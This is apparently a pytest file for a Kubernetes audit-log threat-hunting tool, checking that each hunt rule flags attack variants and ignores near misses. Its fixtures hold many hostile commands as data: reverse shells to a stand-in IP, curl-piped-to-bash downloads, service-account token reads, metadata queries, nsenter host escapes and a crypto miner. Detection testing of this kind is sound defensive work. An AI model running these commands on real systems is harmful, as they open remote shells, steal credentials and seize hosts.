"""Forms of the same thing: each of them is found, and each near miss is not."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from k8sidx.backends.protocol import Engine
from k8sidx.hunt.library.load import load_hunts
from k8sidx.hunt.run import Window, run_hunt
from tests.building import event
from tests.hunt.library import changes, execution, workloads
from tests.judge.engines import CaseEngine, embedded, tagged

Event = dict[str, Any]
run, command, pod = execution.run, workloads.command, workloads.pod


def shell(script: str) -> Event:
    return run("sh", "-c", script)


FOUND: dict[str, list[Event]] = {
    "exec_reverse_shell": [
        run("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        run("nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
        run("ncat", "203.0.113.9", "4444", "-e", "/bin/bash"),
        shell("nc 203.0.113.9 4444 | /bin/sh"),
        shell("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"),
        shell("socat tcp:203.0.113.9:4444 exec:/bin/sh,pty"),
        run("python3", "-c", 'import socket,os,pty;s=socket.socket();pty.spawn("sh")'),
        run("python3", "-c", "import socket\nimport subprocess\nsubprocess.call('sh')"),
        run("php", "-r", '$s=fsockopen("203.0.113.9",4444);exec("sh <&3");'),
        run("perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);"),
        run("ruby", "-rsocket", "-e", 'TCPSocket.open("203.0.113.9",4444)'),
    ],
    "exec_download": [
        run("wget", "http://203.0.113.9/x"),
        shell("cd /tmp && curl -fsSLO https://evil.example/x"),
        shell("curl -u a:b ftp://files.example/x"),
        shell("curl http://10.0.0.9/x"),
        shell("curl https://user:pass@evil.example/"),
        shell("curl http://localhost/ http://evil.example/x"),
        run("curl", "https://api.example.com/healthz"),
    ],
    "kubectl_cp_from_pod": [
        run("tar", "cf", "-", "/x"),
        run("tar", "-cf", "-", "/x"),
        run("tar", "czf", "-", "-C", "/", "x"),
        run("tar", "-C", "/", "-c", "-f", "-", "x"),
        run("tar", "--exclude=y", "-c", "--file=-", "x"),
        run("tar", "--create", "--file", "-", "x"),
        run("/bin/tar", "cvf", "-", "x"),
    ],
    "exec_service_account_token": [
        run("cat", "/run/secrets/kubernetes.io/serviceaccount/token"),
        run("cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"),
        run("cat", "/var/run/secrets/azure/tokens/azure-identity-token"),
        run("cat", "/var/run/secrets/tokens/gcp-ksa/token"),
        event(
            "create",
            name="web",
            subresource="exec",
            code=101,
            requestObject={"command": ["ls", execution.MOUNTED]},
        ),
    ],
    "exec_cloud_metadata": [
        shell("curl 0xa9fea9fe/latest"),
        shell("curl http://2852039166/"),
        shell("wget -qO- http://metadata.google.internal/computeMetadata/v1/"),
    ],
    "node_proxy_exec": [
        execution.proxied("nodes", "exec/shop/web/c?command=id"),
        execution.proxied("nodes", "attach/shop/web/c", "create"),
        execution.proxied("nodes", "portForward/shop/web"),
        execution.proxied("nodes", "cri/exec/abc"),
        execution.proxied("nodes", "%72un/shop/web/c", "create"),
    ],
    "workload_suspicious_command": [
        pod(command("sh", "-c", "curl -s http://203.0.113.9/p.sh | bash")),
        pod(command("bash", "-c", "bash <(curl -s http://203.0.113.9/p.sh)")),
        pod(command("sh", "-c", "wget http://203.0.113.9/p -O /p && chmod +x /p && /p")),
        pod(command("nc", "203.0.113.9", "4444", "-e", "/bin/sh")),
        pod(command("nsenter", "-t", "1", "-m", "-u", "--", "bash")),
        pod(command("nsenter", "--target=1", "--mount")),
        pod(command("chroot", "/host", "bash")),
        pod(command("sh", "-c", "echo aWQ= | base64 -d | sh")),
        pod(command("/usr/bin/xmrig", "--config=/c")),
        pod(command("perf", "-o", "stratum+tcp://pool.example:3333")),
        pod({"initContainers": command("nsenter", "-t1", "-m")["containers"]}),
    ],
    "sensitive_hostpath_pod": [
        *(
            pod(workloads.host_path(path))
            for path in (
                "/", "/etc", "/etc/kubernetes/manifests", "/root/.kube", "/proc", "/var/log",
                "/var/lib/kubelet/pki", "/var/run/docker.sock", "/run/containerd/containerd.sock",
                "/home/admin", "/var/lib/docker/overlay2", "/var", "//", "/./var/lib/kubelet/",
            )
        )
    ],
    "privileged_pod": [
        workloads.workload(workloads.PRIVILEGED, resource)
        for resource in ("daemonsets", "statefulsets", "replicasets", "jobs", "deployments")
    ]
    + [
        workloads.cron_job(workloads.PRIVILEGED),
        event(
            "patch",
            "deployments",
            name="web",
            requestObject=[
                {
                    "op": "add",
                    "path": "/spec/template/spec/containers/0/securityContext",
                    "value": {"privileged": True},
                }
            ],
        ),
        event(
            "patch",
            name="web",
            subresource="ephemeralcontainers",
            requestObject={
                "spec": {"ephemeralContainers": [{"securityContext": {"privileged": True}}]}
            },
        ),
        {
            "verb": "create",
            "objectRef": {"resource": "pods"},
            "requestObject": {"spec": workloads.PRIVILEGED},
        },
        pod(workloads.PRIVILEGED, user="mallory", impersonatedUser={"username": "system:admin"},
            namespace="kube-system"),
    ],
    "exposed_sensitive_service": [
        changes.service(type="LoadBalancer", selector={"app": app})
        for app in ("redis", "argo-workflows-server", "my-postgresql", "grafana", "jenkins")
    ]
    + [changes.service(type="LoadBalancer", ports=[{"port": 5432}])],
    "pod_in_system_namespace": [
        event("create", name="p", namespace=namespace)
        for namespace in ("kube-system", "kube-public", "gke-system", "gke-managed-system",
                          "openshift-monitoring", "amazon-guardduty")
    ]
    + [
        workloads.workload({}, "daemonsets", namespace="kube-system"),
        event("create", name="p", namespace="kube-system",
              user="system:serviceaccount:shop:cart"),
    ],
}  # fmt: skip

SILENT: dict[str, list[Event]] = {
    "exec_reverse_shell": [
        shell("nc -z db 5432 && sh -c id"),
        shell("ls /dev/tcplog"),
        run("mysql", "--socket=/run/mysqld.sock", "-e", "select 1"),
        shell("openssl s_client -connect db:5432 </dev/null"),
    ],
    "exec_download": [
        run("curl", "-sf", "http://127.0.0.1:9090/-/ready"),
        run("curl", "http://localhost/x"),
        run("wget", "-qO-", "http://cart.shop.svc.cluster.local/x"),
        run("curl", "http://10.0.0.7:8080/healthz"),
        shell("echo https://example.com"),
    ],
    "kubectl_cp_from_pod": [
        run("tar", "xmf", "-", "-C", "/x"),
        run("tar", "czf", "backup.tar.gz", "/app/data"),
        run("tar", "tf", "-"),
        run("cat", "/cf", "-"),
    ],
    "node_proxy_exec": [
        execution.proxied("nodes", "stats/summary"),
        execution.proxied("nodes", "containerLogs/shop/run/c"),
    ],
    "privileged_pod": [
        event(
            "patch",
            "deployments",
            name="web",
            requestObject={"spec": {"replicas": 3}},
            responseObject={"spec": {"template": {"spec": workloads.PRIVILEGED}}},
        ),
        pod({"containers": [{"securityContext": {"privileged": "true"}}]}),
        event("get", requestObject={"spec": workloads.PRIVILEGED}),
    ],
    "pod_exec": [
        run("id", user=execution.KUBE_PROXY, namespace="kube-system"),
        run("id", stage="RequestReceived", responseStatus=None),
    ],
    "exposed_sensitive_service": [
        changes.service(type="LoadBalancer", selector={"app": "redistribution"}),
        changes.service(type="NodePort", selector={"app": "redis"}),
    ],
}


CASES = {
    f"{side} {hunt} {place}": [one]
    for side, held in (("found", FOUND), ("silent", SILENT))
    for hunt, events in held.items()
    for place, one in enumerate(events)
}


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    with embedded(tmp_path_factory.mktemp("variants"), tagged(CASES)) as opened:
        yield opened


@pytest.mark.parametrize("case", CASES)
def test_every_form_is_found_and_no_near_miss_is(case: str, engine: Engine) -> None:
    side, name, _ = case.split()
    (hunt,) = load_hunts([name])
    found = run_hunt(hunt, CaseEngine(engine, case), Window())
    assert bool(found.findings) is (side == "found"), CASES[case]
